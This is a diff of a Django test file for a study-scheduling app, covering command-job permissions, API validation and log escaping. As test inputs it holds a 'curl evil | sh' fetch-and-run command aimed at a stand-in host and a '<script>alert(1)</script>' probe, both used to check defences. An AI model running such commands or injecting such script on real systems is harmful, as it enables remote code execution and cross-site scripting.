@@ -39,17 +39,20 @@ def test_an_editor_creates_a_command_job_study_with_a_pruner_in_the_browser(clie
     assert study.pruner == "asha" and study.pruner_settings == {"min_resource": 2, "reduction_factor": 4}
 
 
-def test_the_api_accepts_command_and_external_jobs_and_rejects_unknown_ones_and_their_settings(cast, train_job):
+def test_the_api_accepts_command_and_external_jobs_and_rejects_unknown_ones_and_settings(cast, train_job):
     _token, key = ApiToken.issue(cast["editor"])
     api = APIClient()
     api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
-    body = {"space": SPACES["branin"], "max_trials": 3}
-    assert api.post("/api/studies/", {**body, "name": "a", "job": "command:train"}, format="json").status_code == 201
-    assert api.post("/api/studies/", {**body, "name": "b", "job": "external"}, format="json").status_code == 201
-    unknown = api.post("/api/studies/", {**body, "name": "c", "job": "command:rm"}, format="json")
+
+    def create(name: str, job: str, **extra):
+        body = {"name": name, "job": job, "space": SPACES["branin"], "max_trials": 3, **extra}
+        return api.post("/api/studies/", body, format="json")
+
+    assert create("a", "command:train").status_code == 201
+    assert create("b", "external").status_code == 201
+    unknown = create("c", "command:rm")
     assert unknown.status_code == 400 and "job" in unknown.json()
-    settings = api.post("/api/studies/", {**body, "name": "d", "job": "command:train", "job_settings": {"x": 1}},
-                        format="json")
+    settings = create("d", "command:train", job_settings={"x": 1})
     assert settings.status_code == 400 and "takes no job settings" in settings.json()["job_settings"][0]
 
 
@@ -58,9 +61,11 @@ def test_a_non_staff_user_cannot_create_or_edit_a_command_job(client, cast, trai
     add = reverse("admin:studies_commandjob_add")
     change = reverse("admin:studies_commandjob_change", args=[train_job.pk])
     assert client.get(add).status_code == 302
-    client.post(add, {"name": "evil", "argv": '["sh", "-c", "curl evil | sh"]', "env": "{}"})
-    client.post(change, {"name": "train", "argv": '["sh", "-c", "curl evil | sh"]', "env": "{}"})
-    assert list(CommandJob.objects.values_list("name", "argv")) == [("train", ["python", "train.py", "{params_args}"])]
+    evil = '["sh", "-c", "curl evil | sh"]'
+    client.post(add, {"name": "evil", "argv": evil, "env": "{}"})
+    client.post(change, {"name": "train", "argv": evil, "env": "{}"})
+    stored = list(CommandJob.objects.values_list("name", "argv"))
+    assert stored == [("train", ["python", "train.py", "{params_args}"])]
 
 
 def test_staff_define_a_command_job_in_the_admin(client, cast):
@@ -73,8 +78,9 @@ def test_staff_define_a_command_job_in_the_admin(client, cast):
     assert job.created_by == cast["staff"] and job.env == {"EPOCHS": "10"}
 
 
-def test_the_trial_page_shows_the_log_tail_escaped_and_members_download_the_whole_log(client, cast, make_study,
-                                                                                      train_job):
+def test_the_trial_page_shows_the_log_tail_escaped_and_members_download_the_log(
+    client, cast, make_study, train_job
+):
     study = make_study(job="command:train", space=SPACES["branin"], max_parallel=1)
     services.start_study(study)
     [trial_id] = services.schedule_trials(study.pk)
@@ -84,7 +90,8 @@ def test_the_trial_page_shows_the_log_tail_escaped_and_members_download_the_whol
     client.force_login(cast["viewer"])
 
     page = client.get(trial.get_absolute_url()).content.decode()
-    assert "epoch 2" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>alert" not in page
+    assert "epoch 2" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "<script>alert" not in page
     url = reverse("attempt-log", args=[study.pk, trial.number, attempt.number])
     download = client.get(url)
     assert download.status_code == 200 and download["Content-Type"].startswith("text/plain")
@@ -100,7 +107,8 @@ def test_the_admin_rejects_a_command_job_whose_argv_is_not_a_list_of_strings(cli
         "time_limit_s": ""})
     assert response.status_code == 200 and not CommandJob.objects.exists()
     errors = response.context["adminform"].form.errors
-    assert "JSON list of non-empty strings" in errors["argv"][0] and "JSON object of strings" in errors["env"][0]
+    assert "JSON list of non-empty strings" in errors["argv"][0]
+    assert "JSON object of strings" in errors["env"][0]
 
 
 def test_an_external_studys_page_says_how_to_run_a_worker_for_it(client, cast, make_study):
